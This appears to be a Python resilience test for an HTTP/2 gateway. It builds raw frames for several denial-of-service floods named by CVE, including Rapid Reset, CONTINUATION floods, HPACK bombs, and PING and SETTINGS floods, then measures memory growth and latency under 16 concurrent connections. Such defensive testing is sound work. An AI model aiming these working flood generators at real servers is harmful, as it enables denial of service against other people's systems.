"""Floods of HTTP/2: frames that cost whoever sends them little. The gate holds little of them, and serves others meanwhile."""

import threading

from hpack import Encoder
from weight import MIB, connect, good, growth

GROWTH_MAX = 32 * MIB
CONNECTIONS = 16
BYTES_MAX = 8 * MIB

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = (8).to_bytes(4, "big")


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def head(house, method="GET", what="told", more=()):
    said = [(":method", method), (":scheme", "http"), (":authority", "gate"), (":path", f"/users/user-1/{what}")]
    return [*said, ("authorization", f"Bearer {house.token}"), *more]


def opened(house):
    """One request by a new encoder each time, so that no connection depends on another."""
    return Encoder().encode(head(house))


def resets(house):
    """Requests that are taken back at once (CVE-2023-44487)."""
    block = opened(house)
    for stream in range(1, 200_000, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)


def continuations(house):
    """A head that does not end (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, opened(house))
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x40\x01a\x7f\x00" + b"b" * 127) * 50


def empty_continuations(house):
    yield frame(HEADERS, END_STREAM, 1, opened(house))
    while True:
        yield frame(CONTINUATION, 0, 1) * 500


def empty_data(house):
    """A body of nothing, again and again (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, Encoder().encode(head(house, "POST", "sink")))
    while True:
        yield frame(DATA, 0, 1) * 500


def bombs(house):
    """Heads that name one long field thousands of times (CVE-2016-6581)."""
    encoder = Encoder()
    first = encoder.encode(head(house, more=[("x-long", "a" * 3000)]))
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, first)
    # The newest entry of the dynamic table.
    again = b"\xbe" * 16_000
    for stream in range(3, 2_000, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, opened(house) + again)


def pings(house):
    """Questions whose answers nobody reads (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 500


def settings(house):
    """Settings, each to be acknowledged (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, 0, 0, b"\x00\x01\x00\x00\x10\x00" * 10) * 200


def unread(house):
    """Large answers in a window of one byte (CVE-2019-9517)."""
    yield frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big"))
    block = Encoder().encode(head(house, what="bytes/1000000"))
    for stream in range(1, 199, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


FLOODS = (resets, continuations, empty_continuations, empty_data, bombs, pings, settings, unread)


def pour(house, flood, seen):
    """Sends a flood on a connection until the gate ends it, stops reading, or it has had enough; notes how much that was and
    how it ended."""
    with connect(house) as connection:
        connection.settimeout(3)
        sent, ended = 0, "taken"
        try:
            connection.sendall(PREFACE)
            for part in flood(house):
                connection.sendall(part)
                sent += len(part)
                if sent > BYTES_MAX:
                    break
        except TimeoutError:
            ended = "not read"
        except OSError:
            ended = "ended"
        seen.append((sent, ended))


def run(house):
    auth = ["-H", f"Authorization: Bearer {house.token}"]
    for flood in FLOODS:
        slowest, seen = 0, []

        def work():
            nonlocal slowest
            pouring = [threading.Thread(target=pour, args=(house, flood, seen)) for _ in range(CONNECTIONS)]
            for thread in pouring:
                thread.start()
            while any(thread.is_alive() for thread in pouring):
                slowest = max(slowest, good(house, auth))
            for thread in pouring:
                thread.join()

        grown = growth(house.clear, work)
        sent = sum(it for it, _ in seen) / MIB
        ends = ", ".join(sorted({f"{[end for _, end in seen].count(end)} {end}" for _, end in seen}))
        print(
            f"transport: {flood.__name__}: {sent:.1f} MiB on {CONNECTIONS} connections ({ends}); memory grew by "
            f"{grown / MIB:.1f} MiB; 50 requests beside them took {slowest:.2f} s at most"
        )
        assert grown < GROWTH_MAX, f"{flood.__name__} costs too much memory"
